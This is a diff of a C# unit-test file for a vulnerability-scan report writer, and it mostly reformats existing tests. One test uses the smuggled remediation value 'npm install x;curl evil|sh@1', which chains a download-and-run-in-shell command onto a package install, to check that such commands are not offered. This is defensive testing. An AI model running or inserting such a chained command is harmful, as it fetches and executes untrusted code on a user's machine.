@@ -27,11 +27,13 @@ public sealed class TableReportWriterTests : ReportContract
     [InlineData(132)]
     public void No_line_is_wider_than_the_page(int width)
     {
-        foreach (ScanReport report in new[] { SampleScan.Report, SampleScan.Clean, HostileScan.Report, HostileScan.Long })
+        ScanReport[] reports = [SampleScan.Report, SampleScan.Clean, HostileScan.Report, HostileScan.Long];
+        foreach (ScanReport report in reports)
         {
             foreach (string line in Write(Everything with { Width = width }, report).Split('\n'))
             {
-                Assert.True(DisplayText.Width(line) <= Math.Max(width, 40), $"{DisplayText.Width(line)} columns: {line}");
+                Assert.True(
+                    DisplayText.Width(line) <= Math.Max(width, 40), $"{DisplayText.Width(line)} columns: {line}");
             }
         }
     }
@@ -63,7 +65,8 @@ public sealed class TableReportWriterTests : ReportContract
     [Fact]
     public void Command_with_shell_characters_from_a_package_name_is_not_offered()
     {
-        VulnerabilityFinding finding = SampleScan.Report.Vulnerabilities[1] with { Remediation = "npm install x;curl evil|sh@1" };
+        VulnerabilityFinding finding =
+            SampleScan.Report.Vulnerabilities[1] with { Remediation = "npm install x;curl evil|sh@1" };
 
         Assert.Empty(AdviceSection.Commands([finding]));
     }
